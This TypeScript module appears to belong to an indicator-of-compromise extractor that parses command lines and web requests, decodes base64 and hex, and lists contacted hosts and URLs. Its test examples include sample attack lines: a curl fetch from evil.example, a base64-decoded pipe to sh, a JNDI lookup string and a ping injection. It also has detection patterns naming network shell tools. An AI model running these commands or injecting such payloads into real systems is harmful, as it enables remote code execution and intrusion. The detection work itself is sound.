/**
 * Command lines and scripts: the URLs in them, the hosts that they name, and
 * what they carry encoded.
 *
 * @module
 */
import type { Candidate } from "../ioc.ts";
import { normalize } from "../kinds.ts";
import { addressesIn, isFileName } from "../tokens.ts";
import {
  decodeBase64,
  decodeHex,
  withoutEscapes,
  withoutLookups,
  withoutShell,
  withoutStrings,
} from "./unwrap.ts";
import { eachUrlIn, urlAndHost } from "./urls.ts";

/** No more of a text is looked at, decoded parts counted. */
const MAX_LENGTH = 65_536;

/** Base64 in base64 in base64. */
const MAX_DEPTH = 3;

/** So many parts of a text are decoded. */
const MAX_DECODED = 10;

/**
 * What a command line or a script holds.
 *
 * @example
 * ```ts
 * import { assertEquals } from "@std/assert";
 *
 * const found = (text: string) =>
 *   [...findInCommand(text, "f")].map(({ text }) => text);
 * assertEquals(found("curl -o x.sh evil.example/x"), [
 *   "evil.example",
 *   "http://evil.example/x",
 * ]);
 * assertEquals(found("ssh -p 22 root@1.2.3.4"), ["1.2.3.4"]);
 * assertEquals(found("echo Y3VybCBhLmV4YW1wbGUveA== | base64 -d | sh"), [
 *   "a.example",
 *   "http://a.example/x",
 * ]);
 * ```
 */
export function* findInCommand(
  text: string,
  field: string,
): Generator<Candidate> {
  const parts: { readonly text: string; readonly depth: number }[] = [
    { text: text.slice(0, MAX_LENGTH), depth: 0 },
  ];
  let room = MAX_LENGTH;
  for (const { text, depth } of parts) {
    const plain = withoutShell(withoutStrings(withoutLookups(text)));
    yield* findInPlain(plain, field);
    if (depth === MAX_DEPTH) continue;
    for (const part of decodedIn(plain)) {
      if (parts.length > MAX_DECODED || room <= 0) break;
      parts.push({ text: part.slice(0, room), depth: depth + 1 });
      room -= part.length;
    }
  }
}

/**
 * What a web request holds that carries a command: nothing if it carries none.
 *
 * @example
 * ```ts
 * import { assertEquals } from "@std/assert";
 *
 * const found = (text: string) =>
 *   [...findInRequest(text, "f")].map(({ text }) => text);
 * assertEquals(found("/?c=ping%20-c1%20evil.example;"), ["evil.example"]);
 * assertEquals(found("${jndi:dns:evil.example}"), ["dns://evil.example", "evil.example"]);
 * assertEquals(found("Bot/1.0 (+http://bot.example)"), []);
 * ```
 */
export function* findInRequest(
  text: string,
  field: string,
): Generator<Candidate> {
  // Most requests carry none: this is quick to see.
  if (!/[%+ $;|`{\\]/.test(text)) return;
  const part = text.slice(0, MAX_LENGTH);
  // In a form, "+" stands for a blank.
  const spaced = part.replace(
    /\S+/g,
    (word) => /[?=]/.test(word) ? word.replaceAll("+", " ") : word,
  );
  const plain = withoutLookups(withoutEscapes(spaced));
  if (CARRIES_COMMAND.test(plain)) yield* findInCommand(plain, field);
}

const CARRIES_COMMAND =
  /\bjndi:|\(\)\s{0,9}\{|\/dev\/(?:tc|ud)p\/|(?:^|[\s;|&`'"(=/{])(?:wget|curl|fetch|tftp|ftpget|lwp-download|nc|ncat|netcat|telnet|ping|nslookup|dig|certutil|bitsadmin|powershell|pwsh|mshta|(?:ba|da|z)?sh)(?:\.exe)?(?:\s|\$IFS|\$\{IFS|,)/i;

function* findInPlain(text: string, field: string): Generator<Candidate> {
  for (const { url } of eachUrlIn(text)) yield* urlAndHost(url, field);
  for (const { text: address } of addressesIn(text)) {
    // A resolver that is asked is no IoC.
    yield { kind: "address", text: address, field, port: "53" };
  }
  for (const { groups } of text.matchAll(NAMED_HOST)) {
    const host = groups?.["device"] ?? groups?.["share"] ?? groups?.["call"];
    if (host !== undefined && isHost(host)) {
      yield { kind: "host", text: host, field };
    }
  }
  yield* hostsOfPrograms(text, field);
}

/** /dev/tcp/HOST/80, \\HOST\share, connect("HOST", 80) */
const NAMED_HOST =
  /\/dev\/(?:tc|ud)p\/(?<device>[\w.-]{1,253})\/|(?<![\w\\:])\\{2,4}(?<share>[\w-][\w.-]{0,252})(?:@\w{1,9})?\\|(?:tcpclient|udpclient|connect(?:ion)?|gethost\w{1,20}|fsockopen|tcpsocket\.(?:open|new)|socket)\s{0,9}\({1,3}\s{0,9}["'](?<call>[\w.-]{1,253})["']/gi;

/** Whether a word is a name with dots, and no file's. Addresses are found apart. */
function isHost(word: string): boolean {
  return normalize("host", word)?.kind === "domain" && !isFileName(word) &&
    !isOfProgram(word);
}

/** A class, as java.lang.ProcessBuilder, and a folder, as tool-2.24-101. */
function isOfProgram(word: string): boolean {
  const end = word.slice(word.replace(/\.$/, "").lastIndexOf(".") + 1);
  return /^\d/.test(end) || /[A-Z]/.test(end) && /[a-z]/.test(end);
}

/** Programs that are given a host: those that fetch, and others. */
const FETCHERS: ReadonlySet<string> = new Set(
  ("wget curl wget2 aria2c axel lynx fetch lwp-download lwp-request httpie http https " +
    "invoke-webrequest iwr invoke-restmethod irm start-bitstransfer mshta")
    .split(" "),
);
const CALLERS: ReadonlySet<string> = new Set(
  ("ping ping6 fping hping3 ssh scp sftp sshpass rsync nc ncat netcat telnet dig " +
    "nslookup host drill whois traceroute tracert tracepath mtr ftp tftp ftpget " +
    "socat openssl nmap masscan mstsc rdesktop xfreerdp smbclient rpcclient ldapsearch " +
    "redis-cli mysql psql mongo git test-netconnection tnc test-connection " +
    "resolve-dnsname enter-pssession new-pssession invoke-command cmdkey winrs wmic " +
    "psexec finger rlogin rsh cloudflared ngrok chisel").split(" "),
);

/** Options of fetchers whose value may look like a host, and is none. */
const TAKES_OTHER =
  /^(?:-[AHFUbdeux]|--(?:header|user|user-agent|referer|form|cookie|proxy|data[\w-]*)|-(?:[Hh]eaders|[Bb]ody|[Uu]ser[Aa]gent|[Pp]roxy))$/;

function* hostsOfPrograms(text: string, field: string): Generator<Candidate> {
  let isFetcher: boolean | undefined;
  let skipsNext = false;
  for (const [token] of text.matchAll(TOKEN)) {
    if (/^[;|&\n]/.test(token)) {
      isFetcher = undefined;
      continue;
    }
    const program = (token.split(/[/\\=?]/).at(-1) ?? "").toLowerCase()
      .replace(/\.exe$/, "");
    if (FETCHERS.has(program) || CALLERS.has(program)) {
      isFetcher = FETCHERS.has(program);
      skipsNext = false;
    } else if (isFetcher === undefined) continue;
    else if (skipsNext) skipsNext = false;
    else if (token.startsWith("-") && !token.includes("=")) {
      skipsNext = isFetcher && TAKES_OTHER.test(token);
    } else yield* hostOfWord(token, { field, isFetcher });
  }
}

const TOKEN = /[^\s"'`|;&<>(),]+|[|;&\n]/g;

/** [user@]host[:port or path], as programs take it. */
function* hostOfWord(
  word: string,
  { field, isFetcher }: { readonly field: string; readonly isFetcher: boolean },
): Generator<Candidate> {
  // What has a scheme is found as a URL.
  if (word.includes("://") || word.length > 2000) return;
  const bare = word.replace(
    /^(?:-{1,2}[\w-]{1,30}=|\/v:|(?:tcp|udp|openssl)[\w-]{0,12}:|\/\/)/i,
    "",
  );
  const [, host = "", rest = ""] =
    /^(?:[^@\s/]{1,64}@)?([\w-]+(?:\.[\w-]+)+)\.?(?:(?::\d{1,5})?(\/\S*)?|:\S*)$/
      .exec(bare) ?? [];
  if (!isHost(host) && !(rest !== "" && normalize("host", host))) return;
  yield { kind: "host", text: host, field };
  if (isFetcher && rest !== "") {
    yield {
      kind: "url",
      text: `http://${bare.replace(/^[^@/]*@/, "")}`,
      field,
    };
  }
}

/** PowerShell's -EncodedCommand, in all the ways it may be cut. */
const ENCODED_COMMAND =
  /\s[-/\u2013]e(?:c|n|nc|nco|ncod|ncode|ncoded\w{0,8})?\s{1,9}["']?([A-Za-z\d+/]{8,}={0,2})/gi;
const DECODED_BY_CALL =
  /(?:FromBase64String|b64decode|decode_base64|base64_decode|atob|Base64\.decode\w{0,4})\s{0,9}\(\s{0,9}[bru]?["']([A-Za-z\d+/\s]{8,}={0,2})/gi;
const BASE64 = /(?<![A-Za-z\d+/])[A-Za-z\d+/]{16,}={0,2}(?![A-Za-z\d+/=])/g;
const DECODER =
  /base64\s{1,9}(?:-d|--decode|-D)|openssl\s[^|;]{0,40}base64|base64decode/i;

/** How JNDI's servers are told what to run: ldap://…/Basic/Command/Base64/… */
const JNDI_COMMAND = /\/Base64\/([A-Za-z\d+/]{8,}={0,2})/gi;

const HEX = /(?<![\da-z])(?:[\da-f]{2}){8,}(?![\da-z])/gi;
const HEX_DECODER = /\bxxd\s[^|;]{0,40}-\w{0,3}r|unhexlify|fromhex|\bhex2bin/i;

/** The texts that a text has in base64 or in hexadecimal digits. */
function* decodedIn(text: string): Generator<string> {
  const encoded = [
    ...matchesOf(text, ENCODED_COMMAND),
    ...matchesOf(text, DECODED_BY_CALL),
    ...matchesOf(text, JNDI_COMMAND),
    ...DECODER.test(text) ? matchesOf(text, BASE64) : [],
  ];
  for (const one of encoded) {
    const decoded = decodeBase64(one);
    if (decoded !== undefined) yield decoded;
  }
  for (const one of HEX_DECODER.test(text) ? matchesOf(text, HEX) : []) {
    const decoded = decodeHex(one);
    if (decoded !== undefined) yield decoded;
  }
}

function matchesOf(text: string, pattern: RegExp): readonly string[] {
  return text.matchAll(pattern).take(MAX_DECODED)
    .map(([whole, part = whole]) => part).toArray();
}
